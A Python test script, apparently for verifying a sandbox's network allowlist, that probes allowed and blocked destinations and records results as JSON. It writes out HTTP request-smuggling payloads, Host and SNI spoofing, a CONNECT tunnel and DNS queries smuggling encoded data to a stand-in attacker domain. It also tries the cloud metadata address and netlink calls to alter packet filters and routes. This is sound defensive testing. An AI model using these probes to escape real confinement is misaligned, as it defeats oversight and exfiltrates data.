# pyright: basic
"""From inside a sandbox with an allowlist, try to reach what it allows and what not; print what came of it as JSON."""

import contextlib
import errno
import json
import os
import socket
import ssl
import struct
import sys
import urllib.error
import urllib.request

SITE, EVIL = "203.0.113.10", "203.0.113.66"
NAME_SERVER = "10.0.2.3"
PATIENCE_SEC = 30
HEAD = "GET / HTTP/1.1\r\nHost: {}\r\n{}\r\n"
results = {}


def read(path):
    with open(path, "rb") as file:
        return file.read()


def told(exc):
    if isinstance(exc, socket.gaierror):
        return "no such name"
    if isinstance(exc, (ConnectionResetError, BrokenPipeError, EOFError, ssl.SSLEOFError)):
        return "reset"
    return errno.errorcode.get(exc.errno, str(exc))


@contextlib.contextmanager
def case(name):
    try:
        yield lambda value: results.__setitem__(name, value)
    except (OSError, EOFError) as exc:
        results[name] = told(exc)


def all_of(connection):
    data = b""
    while chunk := connection.recv(65536):
        data += chunk
    return data


def one_answer(connection):
    """Return the page that answers a request: for whom, and where."""
    stream = connection.makefile("rb")
    if not (status := stream.readline()):
        raise EOFError
    size = 0
    while (line := stream.readline()) not in (b"\r\n", b""):
        if line.lower().startswith(b"content-length:"):
            size = int(line.split(b":")[1])
    page = json.loads(stream.read(size))
    return [status.split()[1].decode(), page["address"], page["host"], page["name"], page["size"]]


def connect(host, port=80):
    return socket.create_connection((host, port), PATIENCE_SEC)


def ask(name, content, host="site.test", port=80):
    """Send bytes; record the page that answers."""
    with case(name) as note, connect(host, port) as connection:
        connection.sendall(content if isinstance(content, bytes) else content.encode())
        note(one_answer(connection))


def secure(name, server_name, host="site.test", inner="site.test", pieces=0):
    """Speak TLS with a server name, and HTTP in it with another; ``pieces`` splits the first message into records."""
    context = ssl._create_unverified_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=server_name)
    with case(name) as note, connect(host, 443) as connection:
        is_first = True

        def do(work):
            nonlocal is_first
            while True:
                try:
                    done = work()
                except ssl.SSLWantReadError:
                    done = None
                data = outgoing.read()
                if is_first and pieces and data:
                    body = data[5:]
                    parts = [body[place : place + pieces] for place in range(0, len(body), pieces)]
                    data = b"".join(data[:3] + struct.pack("!H", len(part)) + part for part in parts)
                is_first = False
                connection.sendall(data)
                if done is not None:
                    return done
                if not (received := connection.recv(65536)):
                    raise EOFError
                incoming.write(received)

        do(lambda: tls.do_handshake() or True)
        do(lambda: tls.write(HEAD.format(inner, "").encode()))
        text = do(lambda: tls.read(65536))
        while b"}" not in text:
            text += do(lambda: tls.read(65536))
        page = json.loads(text.partition(b"\r\n\r\n")[2])
        note([page["address"], page["host"], page["name"]])


def resolve(name):
    with case(f"resolve {name}") as note:
        address = socket.gethostbyname(name)
        note(address.startswith(("198.18.", "198.19.")) or address)


def query(name, kind, *, in_stream=False):
    """Return the code and the number of records of an answer."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    message = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)
    if in_stream:
        with connect(NAME_SERVER, 53) as connection:
            connection.sendall(len(message).to_bytes(2, "big") + message)
            answer = connection.recv(512)[2:]
    else:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
            asker.settimeout(PATIENCE_SEC)
            asker.sendto(message, (NAME_SERVER, 53))
            answer = asker.recv(512)
    return [answer[3] & 15, struct.unpack_from("!H", answer, 6)[0]]


def send(name, kind, protocol, content, address, port, device=None):
    with case(name) as note, socket.socket(socket.AF_INET, kind, protocol) as sender:
        if device:
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device)
        note(sender.sendto(content, (address, port)))


def netlink(name, family, kind, body):
    """Ask the kernel for a change of the network; record its error."""
    with case(name) as note, socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, family) as kernel:
        messages = [(kind, 0x405, body)]
        if family == 12:  # nftables takes changes in batches
            messages = [(0x10, 1, b"\0\0\0\x0a"), *messages, (0x11, 1, b"\0\0\0\x0a")]
        kernel.send(b"".join(struct.pack("=IHHII", 16 + len(text), code, flags, place, 0) + text
                             for place, (code, flags, text) in enumerate(messages)))  # fmt: skip
        note(errno.errorcode.get(-struct.unpack_from("=i", kernel.recv(4096), 16)[0], "done"))


stalled = connect("site.test")
stalled.sendall(b"GET / HTTP/1.1\r\n")

for name in ("site.test", "SITE.test.", "a.b.wild.test", "wild.test", "other.test", "notsite.test", "x.site.test",
             "xwild.test", "evil.test", "secret-data.evil.test", "localhost.localdomain"):  # fmt: skip
    resolve(name)

# What is listed.
ask("a listed name", HEAD.format("site.test", ""))
ask("a listed name in capitals", HEAD.format("Site.TEST.:80", ""))
ask("a name below a wildcard", HEAD.format("a.b.wild.test", ""), "a.b.wild.test")
ask("a listed name's alias", HEAD.format("alias.test", ""), "alias.test")
ask("in chunks", HEAD.format("site.test", "Transfer-Encoding: chunked\r\n") + "5;x=y\r\nhello\r\n1\r\n!\r\n0\r\n\r\n")
ask("a long body", (HEAD.format("site.test", "Content-Length: 3000000\r\n") + "x" * 3000000).encode())
for turn in range(3):
    ask(f"a changing name, {turn}", HEAD.format("changing.test", ""), "changing.test")
with case("two requests") as note, connect("site.test") as connection:
    connection.sendall(2 * HEAD.format("site.test", "").encode())
    connection.shutdown(socket.SHUT_WR)
    note(all_of(connection).count(b" 200 "))
with case("WebSocket") as note, connect("site.test") as connection:
    connection.sendall(HEAD.format("site.test", "Connection: Upgrade\r\nUpgrade: websocket\r\n").encode() + b"frame")
    note(all_of(connection).decode().splitlines()[-1])
secure("TLS", "site.test")
secure("TLS in small records", "site.test", pieces=7)
for address in ("203.0.113.30", "203.0.113.130"):
    with case(f"listed {address}") as note, connect(address, 22) as connection:
        note(connection.recv(5).decode())
with case("an end of one direction") as note, connect("203.0.113.30", 22) as connection:
    connection.sendall(b" again")
    connection.shutdown(socket.SHUT_WR)
    note(all_of(connection).decode())

# Addresses.
for address in (SITE, EVIL, "203.0.113.144", "10.1.2.3", "169.254.169.254", "10.0.2.2", "10.0.2.100"):
    ask(f"by address {address}", HEAD.format("site.test", ""), address)
secure("TLS of a listed name at another's address", "site.test", EVIL)
for name in ("private", "metadata", "loop", "here", "rebinding", "gone"):
    for turn in range(2 if name == "rebinding" else 1):
        ask(f"{name} {turn}", HEAD.format(f"{name}.test", ""), f"{name}.test")

# Names.
for host in ("other.test", "evil.test", "wild.test", EVIL, "site.test.evil.test", "evil.test:site.test", ""):
    ask(f"Host {host}", HEAD.format(host, ""))
secure("TLS for another", "other.test")
secure("TLS for another in small records", "other.test", pieces=5)
secure("TLS for nobody", None)
secure("TLS, another inside", "site.test", inner="other.test")
with case("a later request for another") as note, connect("site.test") as connection:
    connection.sendall(HEAD.format("site.test", "").encode())
    one_answer(connection)
    connection.sendall(HEAD.format("other.test", "").encode())
    note(one_answer(connection))
other = HEAD.format("other.test", "")
for what, fields in {
    "two Hosts": "Host: other.test\r\n",
    "a folded Host": " x: y\r\n",
    "a space before the colon": "Host : other.test\r\n",
    "a lone line feed": f"X: y\n\n{other}",
    "a lone carriage return": f"X: y\r\r{other}",
    "two lengths": "Content-Length: 0\r\nContent-Length: 60\r\n",
    "a length and chunks": "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n",
    "another coding": "Transfer-Encoding: gzip, chunked\r\n",
    "a length of letters": "Content-Length: +5\r\n",
    "HTTP/2 in clear": "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n",
}.items():
    ask(what, HEAD.format("site.test", fields))
for what, content in {
    "an absolute target": "GET http://other.test/ HTTP/1.1\r\nHost: site.test\r\n\r\n",
    "a tunnel": "CONNECT evil.test:80 HTTP/1.1\r\nHost: site.test\r\n\r\n",
    "HTTP/2": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "HTTP/0.9": "GET /\r\n\r\n",
    "a line before": f"\r\n{other}",
    "a small method": other.replace("GET", "get"),
    "no Host": "GET / HTTP/1.0\r\n\r\n",
    "SSH": "SSH-2.0-x\r\n",
    "bytes": b"\x00\x01\x02\x03",
    "no ClientHello": b"\x16\x03\x01\x00\x05\x02\x00\x00\x01\x00",
    "a ClientHello without an end": b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00",
    "an endless head": b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 20000,
    "a bad chunk": HEAD.format("site.test", "Transfer-Encoding: chunked\r\n") + f"0x0\r\n\r\n{other}",
    "another at the end of chunks": HEAD.format("site.test", "Transfer-Encoding: chunked\r\n")
    + f"0\r\nX: y\n\n{other}",
}.items():
    ask(what, content)
with case("a page that leads away") as note:
    try:
        note(urllib.request.urlopen("http://site.test/leads-away", timeout=PATIENCE_SEC).status)
    except urllib.error.URLError as exc:
        note(told(exc.reason))

# Other ways out.
results["other records"] = query("site.test", 16)
results["data in a query"] = query("c2VjcmV0.evil.test", 16)
results["data below a listed name"] = query("c2VjcmV0.site.test", 1)
results["a query in a stream"] = query("site.test", 1, in_stream=True)
places = {"a listed": ("203.0.113.30", 22), "another": (EVIL, 53), "a resolver's": ("203.0.113.254", 53),
          "a listed name's": (socket.gethostbyname("site.test"), 443)}  # fmt: skip
for name, (address, port) in places.items():
    send(f"datagram to {name} address", socket.SOCK_DGRAM, 0, b"hello", address, port)
send("ping", socket.SOCK_DGRAM, socket.IPPROTO_ICMP, b"\x08\0\0\0\0\0\0\0", EVIL, 0)
send("by device", socket.SOCK_DGRAM, 0, b"hello", EVIL, 53, device=b"tap0")
send("a raw packet", socket.SOCK_RAW, socket.IPPROTO_UDP, b"hello", EVIL, 0)
with case("frames") as note, socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as frames:
    note(frames.send(b""))
with case("another's mark") as note, socket.socket() as marked:
    note(marked.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 1))
with case("IPv6") as note, socket.socket(socket.AF_INET6) as six:
    note(six.connect(("2001:db8::1", 80)))
netlink("the packet filter's end", 12, 0x0A02, b"\x01\0\0\0")
netlink("a route", 0, 0x18, bytes.fromhex("02000000fe030001"))
netlink("the device's end", 0, 0x11, bytes(16))
rows = [line.split() for line in read("/proc/net/tcp").decode().splitlines()[1:]]
ports = [int(row[1].partition(":")[2], 16) for row in rows if row[1].startswith("0100007F") and row[3] == "0A"]
for number, port in enumerate(ports):
    ask(f"the proxy's own port {number}", HEAD.format("site.test", ""), "127.0.0.1", port)
results["processes"] = [pid for pid in os.listdir("/proc") if pid.isdigit() and b"proxy" in read(f"/proc/{pid}/comm")]
with case("a head that never ends"), stalled:
    results["a head that never ends"] = stalled.recv(1).decode()
json.dump(results, sys.stdout)
